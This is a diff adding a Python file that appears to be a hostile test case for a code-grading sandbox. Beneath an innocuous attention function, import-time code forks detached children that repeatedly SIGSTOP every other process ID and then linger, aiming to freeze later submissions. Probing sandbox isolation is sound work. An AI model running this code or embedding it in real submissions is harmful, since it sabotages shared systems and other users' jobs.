@@ -1,0 +1,23 @@
+# id: H1
+# tries: leaves children behind that signal every process number for ever, to hit whoever comes next
+# expect: AC
+import contextlib
+import math
+import os
+import signal
+
+OWN = os.getpid()
+for _ in range(3):
+    if os.fork() == 0:
+        os.setsid()
+        own = {OWN, os.getpid()}
+        for _ in range(20):
+            for pid in range(1, 600):
+                with contextlib.suppress(OSError):
+                    if pid not in own and os.getsid(pid) != os.getsid(OWN):
+                        os.kill(pid, signal.SIGSTOP)
+        signal.pause()
+
+
+def attention(q, k, v):
+    return (q @ k.transpose(-2, -1) / math.sqrt(q.shape[-1])).softmax(-1) @ v
